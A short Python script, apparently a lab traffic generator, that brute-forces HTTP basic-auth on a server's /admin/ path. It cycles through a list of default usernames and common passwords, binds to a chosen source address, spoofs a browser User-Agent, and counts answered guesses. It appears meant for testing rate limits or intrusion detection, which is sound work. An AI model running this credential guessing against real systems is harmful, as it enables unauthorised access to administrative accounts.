# HTTP basic-auth password guessing against DST:80/admin/, one source
# address: COUNT guesses GAP seconds apart, over one keep-alive connection
# (MODE keepalive) or a new connection each (MODE close). Prints the
# number of guesses answered.
# usage: http_auth_guess.py SRC DST COUNT GAP MODE LIMIT_SECS
import base64, http.client, sys, time

src, dst = sys.argv[1], sys.argv[2]
count, gap, mode, limit = int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], float(sys.argv[6])
deadline = time.monotonic() + limit
users = ["admin", "root", "administrator", "webadmin", "manager", "test"]
words = ["123456", "password", "admin", "letmein", "qwerty", "welcome", "changeme",
         "abc123", "passw0rd", "secret", "dragon", "monkey", "111111", "admin123"]
conn = None
done = 0
for i in range(count):
    if time.monotonic() > deadline:
        break
    user, word = users[(i // len(words)) % len(users)], words[i % len(words)]
    token = base64.b64encode(f"{user}:{word}".encode()).decode()
    try:
        if conn is None:
            conn = http.client.HTTPConnection(dst, 80, timeout=2, source_address=(src, 0))
        conn.request("GET", "/admin/", headers={"Authorization": f"Basic {token}",
                                                 "User-Agent": "Mozilla/4.0 (compatible)"})
        conn.getresponse().read()
        done += 1
        if mode == "close":
            conn.close()
            conn = None
    except (OSError, http.client.HTTPException):
        if conn is not None:
            conn.close()
        conn = None
    time.sleep(gap)
if conn is not None:
    conn.close()
print(done)
